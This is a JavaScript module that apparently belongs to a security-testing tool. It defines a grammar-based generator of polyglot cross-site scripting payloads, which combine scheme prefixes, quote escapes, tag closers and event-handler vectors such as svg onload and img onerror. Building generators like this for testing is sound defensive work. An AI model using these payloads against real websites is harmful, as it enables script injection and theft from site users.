import {
  COMMENT,
  DATA,
  DOUBLE,
  HANDLER,
  JSON_SCRIPT,
  RCDATA,
  SINGLE,
  STRING_DOUBLE,
  STRING_SINGLE,
  UNQUOTED,
  URLS,
} from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** One text for every place at once. */
export const polyglot = xssGenerator({
  name: 'polyglot',
  contexts: [
    DATA,
    DOUBLE,
    SINGLE,
    UNQUOTED,
    COMMENT,
    ...RCDATA,
    STRING_SINGLE,
    STRING_DOUBLE,
    JSON_SCRIPT,
    HANDLER,
    ...URLS.slice(0, 1),
  ],
  rules: {
    start: [
      '{scheme}{quotes}{closers}{vector}',
      '{quotes}{closers}{vector}',
      '{scheme}/*{closers}*/{bare}//{quotes}{closers}{vector}',
      '{quotes};{bare}//{quotes};{bare}//{closers}{vector}',
      '{closers}{quotes}>{vector}{quotes}',
      '{word}{quotes}{closers}{vector}<!--',
    ],
    scheme: ['javascript:', 'jaVasCript:', 'javascript://%250A', 'javascript:"/*', 'javascript:alert(1)//'],
    quotes: ['\'"', '"\'', '\'">', '"\'>', '`"\'', "';", '";', "*/'/*`", '\\\'\\"', '--!>', '-->\'">'],
    closers: [
      '</title></style></textarea></script>',
      '--></script></title></textarea>',
      '</stYle/</titLe/</teXtarEa/</scRipt/--!>',
      '</script>--></style></title></textarea></noscript>',
      '</textarea></title></xmp></noembed></script>-->',
      '--!></Title/</Style/</Script/</textArea/</iFrame/</noScript>',
    ],
    vector: [
      '<svg onload={bare}>',
      '<script>{bare}</script>',
      '<img src=x onerror={bare}>',
      '<svg/onload={bare}//',
      '\x3csVg/<sVg/oNloAd={bare}//>\x3e',
      '<svg <script>{bare}</script>',
      '<details open ontoggle={bare}>',
      '<iframe src=javascript:{bare}>',
    ],
  },
});
